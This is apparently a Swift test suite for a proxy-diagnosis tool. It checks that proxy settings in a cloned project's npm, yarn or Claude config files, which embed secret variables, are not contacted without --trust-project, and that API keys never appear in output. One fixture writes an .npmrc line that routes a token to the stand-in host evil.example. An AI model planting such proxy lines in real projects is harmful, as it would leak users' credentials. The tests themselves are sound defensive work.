import Testing

/// What `doctor` does with the files of a project that was cloned from anywhere: it reads them, and sends nothing of the user's.
@Suite struct ProjectFileTests {
    private let sandbox: Sandbox
    private let listener: Listener

    init() throws {
        sandbox = try Sandbox()
        listener = try Listener()
        Files.makeFolder("\(sandbox.home)/project")
        for name in ["npm", "pnpm", "yarn"] {
            try sandbox.install(name, "#!/bin/sh\necho 10.8.2\n")
        }
    }

    private func doctor(_ words: String, _ variables: [String: String?] = [:]) throws -> Outcome {
        let line = "cd ~/project && proxyenv doctor \(words) --timeout 1 --json"
        let token: [String: String?] = ["MY_TOKEN": "hunter2", "PROXY_PORT": "\(listener.port)"]
        return try Runner(
            arguments: ["/bin/sh", "-c", line].map { Array($0.utf8) },
            environment: sandbox.entries(token.merging(variables) { $1 })
        ).run()
    }

    private static let files = [
        ("npm", ".npmrc", "https-proxy=http://${MY_TOKEN}:x@127.0.0.1:PORT\n"),
        ("npm", ".npmrc", "https-proxy=http://x:${MY_TOKEN}@127.0.0.1:PORT\n"),
        ("npm", ".npmrc", "https-proxy=http://127.0.0.1:${PROXY_PORT}\n"),
        ("pnpm", ".npmrc", "https-proxy=http://${MY_TOKEN}:x@127.0.0.1:PORT\n"),
        ("yarn", ".yarnrc.yml", "httpsProxy: \"http://${MY_TOKEN}:x@127.0.0.1:PORT\"\n"),
    ]

    /// Puts `file` with `text`, in which PORT is that of the listener, into the project.
    private func write(_ file: String, _ text: String) throws {
        try sandbox.write(
            text.replacing("PORT\n", with: "\(listener.port)\n")
                .replacing("PORT\"", with: "\(listener.port)\""), to: "project/\(file)")
    }

    @Test(arguments: files)
    func `a proxy that a project's file makes of variables is not asked before it is trusted`(
        tool: String, file: String, text: String
    ) throws {
        try write(file, text)
        let outcome = try doctor(tool)
        #expect(outcome.text.contains("file.project"), "\(outcome.text)")
        #expect(outcome.text.contains("--trust-project"))
        #expect(!outcome.text.contains("hunter2"), "\(outcome.text)")
        #expect(outcome.status == 1)
        #expect(listener.takeConnections() == 0)
    }

    @Test(arguments: files)
    func `with --trust-project it is asked`(tool: String, file: String, text: String) throws {
        try write(file, text)
        let trusted = try doctor("\(tool) --trust-project")
        #expect(!trusted.text.contains("file.project"), "\(trusted.text)")
        #expect(!trusted.text.contains("hunter2"), "\(trusted.text)")
        #expect(listener.takeConnections() > 0)
    }

    @Test func `a proxy that the user's own file names is asked`()
        throws
    {
        try sandbox.write(
            "https-proxy=http://127.0.0.1:${PROXY_PORT}\n", to: ".npmrc")
        let own = try doctor("npm")
        #expect(!own.text.contains("file.project"), "\(own.text)")
        #expect(listener.takeConnections() > 0)
    }

    @Test func `a proxy that a project's file names without variables is asked`() throws {
        try sandbox.write(
            "https-proxy=http://127.0.0.1:\(listener.port)\n", to: "project/.npmrc")
        let project = try doctor("npm")
        #expect(!project.text.contains("file.project"), "\(project.text)")
        #expect(listener.takeConnections() > 0)
    }

    @Test func `explain shows the names of the variables, not what they hold`() throws {
        try sandbox.write(
            "https-proxy=http://${MY_TOKEN}:x@evil.example:1\n", to: "project/.npmrc")
        let line = "cd ~/project && proxyenv explain npm https://registry.npmjs.org"
        let outcome = try Runner(
            arguments: ["/bin/sh", "-c", line].map { Array($0.utf8) },
            environment: sandbox.entries(["MY_TOKEN": "hunter2"])
        ).run()
        #expect(outcome.text.contains("http://${MY_TOKEN}:***@evil.example:1"), "\(outcome.text)")
        #expect(!outcome.text.contains("hunter2"))
    }

    /// What `doctor` says of claude, with its key, where a project's file names a proxy.
    private func doctorWithKey(_ words: String) throws -> Outcome {
        try sandbox.install("claude", "#!/bin/sh\necho 2.1.330\n")
        Files.makeFolder("\(sandbox.home)/project/.claude")
        try sandbox.write(
            "{\"env\": {\"HTTPS_PROXY\": \"http://127.0.0.1:\(listener.port)\"}}",
            to: "project/.claude/settings.json")
        let line = "cd ~/project && proxyenv doctor claude --with-key --timeout 1 \(words)"
        return try Runner(
            arguments: ["/bin/sh", "-c", line].map { Array($0.utf8) },
            environment: sandbox.entries(["ANTHROPIC_API_KEY": "sk-ant-hunter2"])
        ).run()
    }

    @Test func `the key is not shown where a project's file names the proxy`() throws {
        #expect(!(try doctorWithKey("--json").text.contains("hunter2")))
    }

    @Test func `the key does not go by a proxy that a project's file names`() throws {
        let plain = try doctorWithKey("")
        let text = plain.text + plain.errorText
        #expect(!text.contains("goes to"), "\(text)")
    }
}
